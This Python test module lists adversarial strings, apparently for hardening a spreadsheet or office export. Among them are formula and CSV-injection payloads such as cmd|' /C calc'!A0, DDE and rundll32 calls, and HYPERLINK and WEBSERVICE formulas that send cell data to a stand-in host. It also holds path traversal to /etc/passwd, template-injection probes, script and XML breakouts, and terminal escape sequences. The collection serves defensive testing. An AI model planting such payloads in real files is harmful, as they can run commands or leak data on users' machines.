"""Texts that try to be more than text: what agencies or plans might hold, each with the family it belongs to."""

import re
from itertools import product

STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "＝", "＋", "－", "＠", "'=", '"=',
    "%=", ";=", ",=", "|=", "=+", "=-", "==", "{=", "(=",
)  # fmt: skip
CALLS = (
    "1+1", "A1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"bấm")', "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\x.exe'!''", 'WEBSERVICE("http://x.example")', 'IMPORTXML("http://x.example","//a")',
    'DDE("soffice";"x";"y")', 'INDIRECT("A1")', "'file:///etc/passwd'#$A.A1", "[x.xlsx]S!A1", 'CALL("urlmon","x")',
    "rundll32|'URL.dll,OpenURL x'!A", "EXEC(\"calc\")",
)  # fmt: skip
LINKS = (
    "http://x.example", "https://x.example/a?b=c&d", "ftp://x.example", "mailto:a@x.example?subject=x",
    "file:///etc/passwd", "internal:'Sheet1'!A1", "external:c:\\x.xlsx#'S'!A1", "\\\\may-chu\\chung\\x",
    "javascript:alert(1)", "data:text/html,<b>", "www.x.example", "a@x.example", "#Sheet1!A1", "smb://x/y",
    "ms-word:ofe|u|http://x", "vbscript:x", "about:blank", "//x.example/y", "http://x.example/" + "a" * 2100,
    "tel:113",
)  # fmt: skip
ESCAPES = (
    "_x000D_", "_x000d_", "_X000D_", "_x0041_", "_x005F_", "_x005F_x000D_", "_x0000_", "_xFFFE_", "_xD800_",
    "_x003D_1+1", "a_x0009_b", "__x000A__", "_x005F_x005F_", "&#13;", "&#x0;", "&#x3C;b&#x3E;", "%0d%0a",
    "\\x1b[31m", "\\u202e", "\\n",
)  # fmt: skip
XML = (
    "<", ">", "&", "&amp;", "&lt;b&gt;", "]]>", "<![CDATA[x]]>", "<!-- x -->", "--><w:p/>",
    "</w:t></w:r></w:p><w:p>", "</t></si><si><t>x", "<r><t>x</t></r>", "<r></r>", "<r>x</r>", "<is><t>x</t></is>",
    "<f>1+1</f>", "</v></c><c r=\"A1\">", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<script>alert(1)</script>", "<w:br/>", "<a:t>x</a:t>", '" onload="x', "' x='", "<xml><t>", "&nbsp;",
    "&unknown;", "<b>đậm</b>", "<<>>", "a<b>c&d\"e'f",
)  # fmt: skip
CSV = (
    'a,b', 'a;b', 'a\tb', '"', '""', '"a', 'a"b"c', "a\nb", "a\r\nb", "a\rb", '";=1+1;"', '\n\n', "a|b", "\t",
    ",,,", '","', "'", "''", "'x", "a\n=1+1\n", "\n=cmd|' /C x'!A0", "x\v=1", "x\f=1", '"\n"=1+1',
)  # fmt: skip
TAGS = (
    "{{ 7*7 }}", "{% for x in y %}", "{%p if x %}", "{%tr endfor %}", "{# x #}", "{{", "}}", "{%", "%}", "{#",
    "#}", "{_{ x }_}", "{_% x %_}", "{_{", "}_}", "{{{{", "{ { x } }", "{{ a.__class__ }}", "{{r x}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "%s %d %n", "{0.__class__}", "{x!r}", "%(x)s", "{}", "$x", "`id`", "$(id)",
)  # fmt: skip
MARKUP = (
    "[red]đỏ[/red]", "[/]", "[/red]", "[bold", "[link=http://x.example]bấm[/link]", ":smile:",
    "[@click=app.quit]x[/]", "[[x]]", "\\[red]", "**x**", "# x", "[x](http://x.example)", "&C&\"Arial\"x", "&P/&N",
    "&A", "&F", "[not a tag", "[]", "[blink]x", "~x~",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mđỏ", "\x1b[2J", "\x1b[H", "\x1b]0;tên\x07", "\x1b]8;;http://x.example\x07bấm\x1b]8;;\x07", "\x1b[6n",
    "\x1bc", "\x9b31m", "\x90qx\x9c", "\x07", "a\x08b", "a\rb", "a\x7fb", "\x1b[1A\x1b[2Kgiả",
    "\x1b]52;c;eA==\x07", "\x1bP+q\x1b\\", "\x0e\x0f", "\x00", "a\x00b", "\x1b", "\x1b[?1049h", "\x85x", "\x84",
    "\x1b]1337;File=:x\x07",
)  # fmt: skip
PATHS = (
    "../x", "..\\x", "../../../../etc/passwd", "/etc/passwd", "C:\\x", "C:x", "\\\\may\\chung", "CON", "NUL",
    "com1.xlsx", "LPT9", "a/b", "a\\b", "a:b", "a*b?", "x.", "x ", "~", "~/x", "$HOME", "%APPDATA%", "-rf",
    "--help", "a\x00.xlsx", "..", ".", "...", "|x",
)  # fmt: skip
NUMBERS = (
    "0", "00123", "07213", "1e5", "1E400", "-5,2", "+84 912 345 678", "1.234,5", "1,234.5", "85,5%", "12/15",
    "5/10", "1-2", "0x1F", "12345678901234567890", "9" * 400, "0.1", ".5", "5.", "1_000", "١٢٣", "１２３", "½", "²",
    "1'000", "1 234", "∞", "NaN", "inf", "-inf", "TRUE", "FALSE", "true", "NULL", "None", "#N/A", "#REF!",
    "#DIV/0!", "#NAME?", "#VALUE!", "#NULL!", "#NUM!",
)  # fmt: skip
DATES = (
    "31/12/2024", "2024-01-01", "1/6", "6-2024", "01/2024", "March 5", "5-Mar", "12:30", "2024-01-01T00:00:00Z",
    "30/02/2024", "1/1/1900", "29/02/1900", "31.12.2024", "20240101", "45000", "Q1/2024", "tháng 6", "0/0/0",
)  # fmt: skip
MARKS = (
    "a\u202eb", "\u202exslx.exe", "\u2066x\u2069", "\u200fx", "\u061cx", "\u200bx", "x\u00ad", "\ufeffx",
    "\u2028x", "x\u2029y", "\ue000", "{\ue000{ x }}", "\ufffe", "\uffff", "\ud800", "x\udfffy", "\udc80\udcff",
    "\U0001f600", "\U0010ffff", "e\u0301" * 30, "Hie\u0302\u0301u", "Hi\u1ebfu", "H\u0300" + "\u0301" * 200,
    "\u00a0", "\u3000x\u3000", " x ", "  ", "\u0130i", "ß", "ﬁ",
)  # fmt: skip
LONG = (
    "x" * 32767, "x" * 32768, "=" * 40000, "đ" * 40000, "\U0001f600" * 16383, "\U0001f600" * 16384,
    "x" + "\U0001f600" * 16384, "=1+1 " * 8000, "a\r\n" * 20000, "<b>" * 15000,
)  # fmt: skip

FAMILIES = {
    "formula": tuple(start + call for start, call in product(STARTS, CALLS)),
    "sign": tuple(start + text for start, text in product(STARTS, ("", "x", "5,2"))),
    "link": (*LINKS, *(f"={link}" for link in LINKS), *(f" {link}" for link in LINKS)),
    "escape": (*ESCAPES, *(f"={text}" for text in ESCAPES), *(f"x{text}y" for text in ESCAPES)),
    "xml": (*XML, *(f"={text}" for text in XML), *(f"x {text} y" for text in XML)),
    "csv": CSV,
    "tag": (*TAGS, *(f"={text}" for text in TAGS), *(f"x {text} y" for text in TAGS)),
    "markup": (*MARKUP, *(f"x {text} y" for text in MARKUP)),
    "terminal": (*TERMINAL, *(f"={text}" for text in TERMINAL), *(f"x{text}y" for text in TERMINAL)),
    "path": (*PATHS, *(f"{text}.xlsx" for text in PATHS)),
    "number": (*NUMBERS, *(f" {text}" for text in NUMBERS), *(f"'{text}" for text in NUMBERS)),
    "date": (*DATES, *(f"={text}" for text in DATES)),
    "mark": (*MARKS, *(f"={text}" for text in MARKS)),
    "long": LONG,
}
TEXTS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
SHORT = tuple(text for text in TEXTS if len(text) < 1000)

MOST_IN_A_CELL = 32767  # UTF-16 units
# What XML 1.0 (section 2.2) holds; DEL is in it, but no text of an office.
_NO_XML = re.compile("[^\t\n\r\x20-\x7e\x80-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def as_stored(text: str) -> str:
    """`text` after the stated repairs: lines end by a line feed, characters that no XML file holds are gone."""
    return _NO_XML.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def width(text: str) -> int:
    """UTF-16 units."""
    return len(text.encode("utf-16-le", "surrogatepass")) // 2
